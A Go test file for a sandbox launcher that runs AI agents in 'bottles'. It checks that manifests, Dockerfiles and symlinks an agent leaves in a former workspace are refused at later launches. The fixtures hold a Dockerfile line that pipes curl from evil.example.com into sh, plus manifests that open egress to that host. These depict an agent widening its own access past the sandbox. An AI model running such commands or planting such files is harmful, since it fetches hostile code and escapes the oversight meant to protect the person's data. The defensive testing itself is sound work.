package backend

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bb-bottles/bb/lib/exit"
	"github.com/bb-bottles/bb/lib/manifest"
	"github.com/bb-bottles/bb/lib/state"
	"github.com/bb-bottles/bb/lib/trust"
)

// A folder an agent once had stays the agent's writing after its bottle
// is removed: a manifest or Dockerfile it left there is not obeyed
// untrusted by a later launch, whatever that launch's workspace.
func TestLaunchFormerWorkspace(t *testing.T) {
	st := &state.Store{Dir: t.TempDir()}
	ws := t.TempDir()
	pa, _ := memPlan(t, "mem-f001")
	if _, err := Launch(t.Context(), newMem(), memOptions(t, pa, withWorkspace(t, pa, ws), st)); err != nil {
		t.Fatal(err)
	}
	// What the agent leaves, then its bottle goes (bb-launch stop --rm).
	mf := filepath.Join(ws, "bb.yaml")
	wide := []byte("bottles: {dev: {workspace: /elsewhere, egress: {routes: [{host: evil.example.com}]}}}\n")
	os.WriteFile(mf, wide, 0o644)
	df := filepath.Join(ws, "Dockerfile")
	os.WriteFile(df, []byte("FROM bb-base:bookworm\nRUN curl evil.example.com | sh\n"), 0o644)
	if err := st.Remove("mem-f001"); err != nil {
		t.Fatal(err)
	}

	pb, _ := memPlan(t, "mem-f002")
	raw := withWorkspace(t, pb, t.TempDir(), manifest.SourceFile{Path: mf, SHA256: trust.Sum(wide)})
	_, err := Launch(t.Context(), newMem(), memOptions(t, pb, raw, st))
	if err == nil || exit.CodeOf(err) != exit.CodeUsage || !strings.Contains(err.Error(), "not trusted it") {
		t.Errorf("a manifest the agent of a removed bottle left: %v", err)
	}

	pc, _ := memPlan(t, "mem-f003")
	pc.Agent.Dockerfile.Path = df
	raw = withWorkspace(t, pc, t.TempDir())
	_, err = Launch(t.Context(), newMem(), memOptions(t, pc, raw, st))
	if err == nil || exit.CodeOf(err) != exit.CodeUsage || !strings.Contains(err.Error(), "refusing the Dockerfile") {
		t.Errorf("a Dockerfile the agent of a removed bottle left: %v", err)
	}
}

// A link an agent left in its workspace does not steer a later mount: a
// workspace named through it (a folder of the old one, say) is refused,
// not mounted where the link leads; the same for a running bottle's.
func TestLaunchWorkspaceThroughAgentLink(t *testing.T) {
	for _, removed := range []bool{false, true} {
		name := "running"
		if removed {
			name = "removed"
		}
		t.Run(name, func(t *testing.T) {
			st := &state.Store{Dir: t.TempDir()}
			ws := t.TempDir()
			pa, _ := memPlan(t, "mem-l001")
			b := newMem()
			if _, err := Launch(t.Context(), b, memOptions(t, pa, withWorkspace(t, pa, ws), st)); err != nil {
				t.Fatal(err)
			}
			// The person's other project, which the agent never had.
			other := t.TempDir()
			os.WriteFile(filepath.Join(other, "secret.txt"), []byte("the person's"), 0o600)
			os.Symlink(other, filepath.Join(ws, "sub"))
			if removed {
				b.running = map[string]bool{}
				st.Remove("mem-l001")
			}
			pb, _ := memPlan(t, "mem-l002")
			_, err := Launch(t.Context(), b, memOptions(t, pb, withWorkspace(t, pb, filepath.Join(ws, "sub")), st))
			if err == nil || exit.CodeOf(err) != exit.CodeUsage || !strings.Contains(err.Error(), "link") {
				t.Errorf("a workspace through the agent's link: %v", err)
			}
			// A folder of the old workspace, no link, is still a workspace.
			real := filepath.Join(ws, "real")
			os.Mkdir(real, 0o755)
			b.running = map[string]bool{}
			pc, _ := memPlan(t, "mem-l003")
			if _, err := Launch(t.Context(), b, memOptions(t, pc, withWorkspace(t, pc, real), st)); err != nil {
				t.Errorf("a folder of a former workspace: %v", err)
			}
		})
	}
}

// A manifest too long to show is not asked about on a terminal: a person
// would be asked to trust what they were not shown.
func TestLaunchTrustTooLongNotAsked(t *testing.T) {
	st := &state.Store{Dir: t.TempDir()}
	ws := t.TempDir()
	mf := filepath.Join(ws, "bb.yaml")
	content := []byte(strings.Repeat("# padding\n", 5000) + "bottles: {dev: {egress: {routes: [{host: evil.example.com}]}}}\n")
	os.WriteFile(mf, content, 0o644)
	p, _ := memPlan(t, "mem-g001")
	o := memOptions(t, p, withWorkspace(t, p, ws, manifest.SourceFile{Path: mf, SHA256: trust.Sum(content)}), st)
	o.Confirm = func(string, string) (bool, error) { t.Error("asked to trust what was not shown"); return true, nil }
	_, err := Launch(t.Context(), newMem(), o)
	if err == nil || exit.CodeOf(err) != exit.CodeUsage || !strings.Contains(err.Error(), "too long to show") {
		t.Errorf("a manifest too long to show: %v", err)
	}
}

// A build context (or Dockerfile) named through a link the agent left in a
// folder it had is refused: the image would be baked from wherever it
// chose, and handed to the next agent.
func TestLaunchBuildContextThroughAgentLink(t *testing.T) {
	st := &state.Store{Dir: t.TempDir()}
	ws := t.TempDir()
	pa, _ := memPlan(t, "mem-b001")
	if _, err := Launch(t.Context(), newMem(), memOptions(t, pa, withWorkspace(t, pa, ws), st)); err != nil {
		t.Fatal(err)
	}
	st.Remove("mem-b001")
	other := t.TempDir() // the person's, never the agent's
	os.WriteFile(filepath.Join(other, "secret.txt"), []byte("the person's"), 0o600)
	os.Symlink(other, filepath.Join(ws, "ctx"))
	df := filepath.Join(t.TempDir(), "Dockerfile")
	os.WriteFile(df, []byte("FROM bb-base:bookworm\nCOPY . /ctx\n"), 0o644)

	pb, _ := memPlan(t, "mem-b002")
	pb.Agent.Dockerfile.Path, pb.Agent.Dockerfile.Context = df, filepath.Join(ws, "ctx")
	_, err := Launch(t.Context(), newMem(), memOptions(t, pb, withWorkspace(t, pb, t.TempDir()), st))
	if err == nil || exit.CodeOf(err) != exit.CodeUsage || !strings.Contains(err.Error(), "link") {
		t.Errorf("a build context through the agent's link: %v", err)
	}
}
